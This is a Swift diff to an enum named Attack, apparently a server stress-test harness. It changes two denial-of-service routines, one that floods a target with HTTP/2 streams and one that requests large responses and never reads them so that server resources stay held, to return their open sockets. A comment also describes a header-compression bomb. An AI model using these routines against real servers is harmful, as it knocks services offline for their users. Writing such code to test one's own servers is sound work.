@@ -22,10 +22,10 @@ enum Attack {
   /// Streams that are opened and then treated in some way, over as many connections as it takes.
   static func streams(
     _ target: SocketTarget, count: Int, head: (UInt32) -> RawFrame, then: (UInt32) -> [RawFrame]
-  ) {
+  ) -> [RawSocket] {
     var opened = 0
     while opened < count {
-      guard let connection = RawSocket(target) else { return }
+      guard let connection = RawSocket(target) else { break }
       connection.write(opening)
       var stream: UInt32 = 1
       while opened < count {
@@ -38,6 +38,7 @@ enum Attack {
         if !connection.write(burst) { break }
       }
     }
+    return []
   }
 
   /// Asks for answers of a size on many streams and takes none of them; with bites, it takes a byte of each now and
@@ -45,7 +46,7 @@ enum Attack {
   static func hunger(
     _ target: SocketTarget, connections: Int, streams: Int, settings: RawFrame, method: String = "Grow",
     asking text: String = "131072", bites: Int = 0
-  ) {
+  ) -> [RawSocket] {
     let message = [0, 0, 0, 0, UInt8(text.utf8.count)] + Array(text.utf8)
     let ids = (0..<streams).map { UInt32($0) * 2 + 1 }
     let requests = ids.flatMap {
@@ -61,6 +62,7 @@ enum Attack {
     for _ in 0..<bites {
       for connection in held { connection.write(updates) }
     }
+    return held
   }
 
   /// A header block that stands for thousands of times its size: one field into the table, then the same by its number.
